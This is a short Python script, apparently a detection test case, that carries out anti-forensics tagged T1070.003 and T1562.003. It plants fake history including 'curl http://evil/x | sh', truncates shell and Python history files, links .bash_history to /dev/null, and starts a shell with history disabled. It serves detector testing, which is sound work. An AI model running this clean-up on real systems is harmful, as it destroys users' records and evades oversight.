# technique: T1070.003 T1562.003
"""Clearing and disabling shell history (T1070.003, T1562.003).

Post-exploitation clean-up: truncate ~/.bash_history, ~/.zsh_history and
~/.python_history with os.truncate, replace ~/.bash_history with a symlink
to /dev/null so future history is discarded, and start a child shell with
HISTFILE unset and HISTSIZE=0 in its environment. Fake history planted first.

A good detector raises a medium or higher alert: shell history files are
truncated/removed or redirected to /dev/null.
"""
import os, subprocess

home = os.path.expanduser("~")
for n in (".bash_history", ".zsh_history", ".python_history"):
    with open(os.path.join(home, n), "w") as f:
        f.write("ssh root@10.0.0.5\ncurl http://evil/x | sh\n")
for n in (".zsh_history", ".python_history"):
    os.truncate(os.path.join(home, n), 0)
h = os.path.join(home, ".bash_history")
os.unlink(h); os.symlink("/dev/null", h)
env = {k: v for k, v in os.environ.items() if k != "HISTFILE"}
env["HISTSIZE"] = "0"; env["HISTFILESIZE"] = "0"
subprocess.run(["/bin/sh", "-c", "unset HISTFILE; history -c 2>/dev/null; true"], env=env, timeout=5)
